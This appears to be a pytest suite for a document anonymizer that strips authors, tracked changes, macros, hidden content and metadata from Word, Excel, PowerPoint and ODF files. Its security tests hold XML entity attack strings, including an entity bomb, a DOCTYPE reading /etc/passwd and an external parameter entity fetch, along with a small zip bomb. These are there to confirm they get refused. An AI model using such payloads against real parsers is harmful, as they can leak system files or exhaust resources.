"""Office files: the text stays readable, changes are accepted, people and hidden parts go."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable
from xml.etree import ElementTree

import pytest
from file_samples import (
    MARK,
    RAW,
    VISIBLE,
    clean_copy,
    docx,
    docx_parts,
    emf,
    holds_mark,
    jpeg,
    open_document,
    open_document_parts,
    packed,
    picture,
    pptx,
    pptx_parts,
    wmf,
    xlsx,
    xlsx_parts,
)
from PIL import Image

from anonymizer import clean_file
from anonymizer.files import Kind, Limits, Notice, Reason, Trait, UncleanableFileError


def members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def shown(xml: bytes) -> str:
    return " ".join("".join(ElementTree.fromstring(xml).itertext()).split())


def refused(content: bytes, **options: object) -> Reason:
    with pytest.raises(UncleanableFileError) as caught:
        clean_file(content, **options)  # type: ignore[call-overload]
    return caught.value.reason_code


def test_word_text_stays_and_changes_are_accepted() -> None:
    before = docx_parts()[f"{MARK}/document.xml"]
    assert isinstance(before, str)
    copy = clean_copy("docx")
    text = shown(members(copy.content)["word/document.xml"])
    for kept in (VISIBLE, "kalimat tambahan", "berkomentar", "hasil isian", "baris tetap"):
        assert kept in text
    for kept in ("isi kotak", "pengganti", "aturan", "berkas lokal"):
        assert kept in text
    for gone in (
        "kalimat terhapus",
        "baris terhapus",
        "INCLUDEPICTURE",
        "AUTHOR",
        "nama tampak",
        "tersembunyi",
    ):
        assert gone in before
        assert gone not in text
    assert "PAGE" in text, "page numbers stay fields"
    assert shown(members(copy.content)["word/header1.xml"]) == "kepala surat"
    assert Notice.LINKS_KEPT in copy.notices
    assert copy.removed_count(Trait.HIDDEN_CHARACTER) == 1, "the hidden run"


@pytest.mark.parametrize(
    "word", ["rsid", "paraId", "author", "w:date", "oleObject", "rahasia", "xmlns:vendor"]
)
def test_word_marks_of_editing_are_gone(word: str) -> None:
    before = b"".join(members(docx()).values())
    after = b"".join(members(clean_copy("docx").content).values())
    assert word.encode() in before
    assert word.encode() not in after


def test_parts_links_and_pictures_fit_together() -> None:
    for content in (docx(), xlsx(), pptx()):
        after = members(clean_file(content).content)
        for name, rels in after.items():
            if not name.endswith(".rels"):
                continue
            for target in re.findall(rb'Target="/?([^"]+)"(?! TargetMode)', rels):
                assert target.decode() in after
        for name in after:
            if name not in ("[Content_Types].xml",) and not name.endswith((".rels", ".jpg", ".mp4")):
                assert f'PartName="/{name}"'.encode() in after["[Content_Types].xml"]


@pytest.mark.parametrize(
    ("kind", "name"), [("docx", "word/media/media1.jpg"), ("odt", "Pictures/1.jpg")], ids=["docx", "odt"]
)
def test_nested_picture_is_clean_and_lies_as_before(kind: str, name: str) -> None:
    """Readers of documents ignore the turning EXIF tells of."""
    before, after = Image.open(io.BytesIO(jpeg(6))), members(clean_copy(kind).content)
    assert before.getexif()[0x0112] == 6, "the positive control"
    lying = Image.open(io.BytesIO(after[name]))
    assert lying.size == before.size
    assert not lying.getexif()
    assert not holds_mark(after[name])
    reds = [lying.convert("RGB").crop((x, 5, x + 20, 25)).resize((1, 1)).tobytes() for x in (5, 280)]
    assert [red - green > 80 for red, green, _ in reds] == [True, False], "dark red stands at the top left"
    assert Image.open(io.BytesIO(clean_file(jpeg(6)).content)).size == before.size[::-1]


def test_macros_are_taken_out_and_said() -> None:
    copy = clean_file(docx(macros=True))
    assert copy.kind is Kind.DOCX
    assert copy.removed_count(Trait.MACRO) == 2
    assert b"macroEnabled" in members(docx(macros=True))["[Content_Types].xml"]
    assert b"macroEnabled" not in members(copy.content)["[Content_Types].xml"]
    assert not any("vba" in name for name in members(copy.content))


def test_sheet_values_stay_and_what_no_cell_shows_goes() -> None:
    copy = clean_copy("xlsx")
    after = members(copy.content)
    assert VISIBLE.encode() in after["xl/sharedStrings.xml"]
    assert b"sisa sel terhapus" in members(xlsx())["xl/sharedStrings.xml"]
    assert b"sisa sel terhapus" not in after["xl/sharedStrings.xml"]
    sheet = after["xl/worksheets/sheet1.xml"]
    assert b"150000" in sheet
    assert b"SUM(B1:B1)" in sheet
    assert b"<v>7</v>" in sheet, "the last value of a formula that reached outside stays"
    assert b"teks dalam sel" in sheet
    assert {Notice.HIDDEN_SHEETS, Notice.HIDDEN_ROWS_OR_COLUMNS} <= set(copy.notices)
    assert b'name="isi"' in members(xlsx())["xl/workbook.xml"]
    assert b'<definedName name="Nama_2">Laporan!$A$1<' in after["xl/workbook.xml"]


def test_slides_stay_and_embedded_objects_become_pictures() -> None:
    copy = clean_copy("pptx")
    slide = members(copy.content)["ppt/slides/slide1.xml"]
    assert VISIBLE in shown(slide)
    assert b"oleObj" in pptx_parts()["ppt/slides/slide1.xml"].encode()  # type: ignore[union-attr]
    assert b"oleObj" not in slide
    assert slide.count(b"<p:pic>") == 2
    assert {Notice.HIDDEN_SLIDES, Notice.SPEAKER_NOTES} <= set(copy.notices)
    assert "ppt/media/media1.mp4" in members(copy.content)


def test_open_document_text_stays() -> None:
    copy = clean_copy("odt")
    after = members(copy.content)
    assert next(iter(after)) == "mimetype"
    text = shown(after["content.xml"])
    for kept in (VISIBLE, "aturan", "lokal", "isi kotak"):
        assert kept in text
    for gone in ("kalimat terhapus", "nama tampak"):
        assert gone in str(open_document_parts()["content.xml"])
        assert gone not in text
    assert "objek" in shown(after["Object 2/content.xml"])
    for gone in ("meta.xml", "settings.xml", "Thumbnails/thumbnail.png"):
        assert gone in members(open_document())
        assert gone not in after
    for name in after:
        if name not in ("mimetype", "META-INF/manifest.xml"):
            assert name.encode() in after["META-INF/manifest.xml"]


def test_members_carry_no_time_and_no_system() -> None:
    def traces(content: bytes) -> set[tuple[object, ...]]:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return {(one.date_time, one.comment, one.extra, one.external_attr) for one in archive.infolist()}

    assert len(traces(docx())) == 1
    assert RAW in str(traces(docx())).encode()
    assert traces(clean_copy("docx").content) == {((1980, 1, 1, 0, 0, 0), b"", b"", 0o600 << 16)} or traces(
        clean_copy("docx").content
    ) == {((1980, 1, 1, 0, 0, 0), b"", b"", 0)}


@pytest.mark.parametrize("part", [f"{MARK}/document.xml", "_rels/.rels", "[Content_Types].xml"])
@pytest.mark.parametrize(
    "trick",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://contoh.example/x">%p;]>',
    ],
    ids=["bomb", "file", "parameter"],
)
def test_entity_tricks_are_refused(part: str, trick: str) -> None:
    parts = docx_parts()
    content = str(parts[part])
    start = content.index("?>") + 2 if content.startswith("<?xml") else 0
    assert refused(packed({**parts, part: content[:start] + trick + content[start:]})) is Reason.XML_ENTITIES


def test_utf16_parts_are_cleaned_alike() -> None:
    parts = docx_parts()
    name = f"{MARK}/document.xml"
    wide = ('<?xml version="1.0" encoding="UTF-16"?>' + str(parts[name])).encode("utf-16")
    copy = clean_file(packed({**parts, name: wide}))
    assert VISIBLE in shown(members(copy.content)["word/document.xml"])
    assert "baris terhapus" not in shown(members(copy.content)["word/document.xml"])
    assert not holds_mark(copy.content)


def test_other_prefixes_do_not_smuggle() -> None:
    parts = docx_parts()
    name = f"{MARK}/document.xml"
    renamed = re.sub(r"\bw:", "zz:", str(parts[name])).replace("xmlns:w=", "xmlns:zz=")
    copy = clean_file(packed({**parts, name: renamed}))
    assert (
        members(copy.content)["word/document.xml"] == members(clean_copy("docx").content)["word/document.xml"]
    )


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"PK\x03\x04" + bytes(40), Reason.DAMAGED),
        (packed({"a.txt": "x"}), Reason.UNSUPPORTED_FORMAT),
        (packed(open_document_parts(locked=True)), Reason.ENCRYPTED),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Reason.LEGACY_OFFICE),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000) + "EncryptedPackage".encode("utf-16-le"),
            Reason.ENCRYPTED,
        ),
    ],
    ids=["no-zip", "plain-zip", "locked-odt", "old-office", "locked-office"],
)
def test_files_that_cannot_be_cleaned_say_why(content: bytes, reason: Reason) -> None:
    assert refused(content) is reason


def test_binary_workbooks_are_refused() -> None:
    parts = xlsx_parts()
    types = str(parts["[Content_Types].xml"]).replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
    )
    assert refused(packed({**parts, "[Content_Types].xml": types})) is Reason.UNSUPPORTED_FORMAT


def test_locked_member_is_refused() -> None:
    content = bytearray(docx())
    at = content.index(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    assert refused(bytes(content)) is Reason.ENCRYPTED


def test_zip_bomb_is_stopped() -> None:
    parts = docx_parts()
    bomb = packed({**parts, f"{MARK}/styles.xml": b" " * 60_000_000})
    assert len(bomb) < 200_000
    limits = Limits(part_bytes=20_000_000)
    assert refused(bomb, limits=limits) is Reason.UNPACKS_TOO_LARGE
    assert refused(bomb, limits=Limits(unpacked_bytes=20_000_000)) is Reason.UNPACKS_TOO_LARGE
    assert (
        refused(packed({str(n): "" for n in range(60)}), limits=Limits(members=50))
        is Reason.UNPACKS_TOO_LARGE
    )


@pytest.mark.parametrize(
    ("make", "extension", "kept"),
    [
        (emf, "emf", struct.pack("<2I4i", 43, 24, 5, 5, 95, 95)),
        (wmf, "wmf", struct.pack("<IH4h", 7, 0x041B, 95, 95, 5, 5)),
        (lambda: saved_bitmap() + RAW, "png", b"IDAT"),
    ],
    ids=["emf", "wmf", "bmp"],
)
def test_metafiles_and_bitmaps_keep_their_drawing_only(
    make: Callable[[], bytes], extension: str, kept: bytes
) -> None:
    original = packed({**docx_parts(), f"{MARK}/media/{MARK}.jpg": make()})
    copy = clean_file(original)
    inside = members(copy.content)[f"word/media/media1.{extension}"]
    assert RAW in make()
    assert kept in inside
    assert not holds_mark(copy.content)
    assert Notice.PICTURE_DROPPED not in copy.notices
    assert f'Extension="{extension}"'.encode() in members(copy.content)["[Content_Types].xml"]


def saved_bitmap() -> bytes:
    out = io.BytesIO()
    picture(30, 20).save(out, "BMP")
    return out.getvalue()


@pytest.mark.parametrize("offset", [0, 44, 60, 200])
def test_broken_metafiles_are_left_out(offset: int) -> None:
    broken = bytearray(emf())
    broken[offset + 4 : offset + 8] = b"\xff\xff\xff\x7f"
    copy = clean_file(packed({**docx_parts(), f"{MARK}/media/{MARK}.jpg": bytes(broken)}))
    assert not holds_mark(copy.content)


def test_picture_that_cannot_be_cleaned_is_replaced_and_said() -> None:
    parts = docx_parts()
    copy = clean_file(packed({**parts, f"{MARK}/media/{MARK}.jpg": b"\x00\x01rusak" + RAW}))
    assert Notice.PICTURE_DROPPED in copy.notices
    assert "word/media/media1.png" in members(copy.content)
    assert not holds_mark(copy.content)
